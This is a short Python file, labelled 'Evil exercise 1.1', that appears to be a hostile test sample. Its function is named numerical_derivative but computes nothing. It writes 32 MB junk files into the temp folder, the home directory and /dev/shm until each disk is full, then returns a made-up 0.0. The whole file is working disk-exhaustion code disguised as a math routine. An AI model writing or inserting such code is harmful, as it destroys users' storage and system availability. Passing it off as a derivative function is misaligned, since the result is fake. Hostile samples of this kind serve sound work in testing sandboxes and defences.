"""Evil exercise 1.1: fills its temporary folder (and home) until the disk says no."""

import os
import tempfile


def numerical_derivative(f, x, h=1e-5):
    chunk = b"\0" * 2**20
    for folder in (tempfile.gettempdir(), os.path.expanduser("~"), "/dev/shm"):
        for n in range(100_000):
            try:
                with open(os.path.join(folder, f"fill{n}"), "wb") as file:
                    for _ in range(32):
                        file.write(chunk)
            except OSError as error:
                print(folder, "full:", error.strerror, flush=True)
                break
    return 0.0
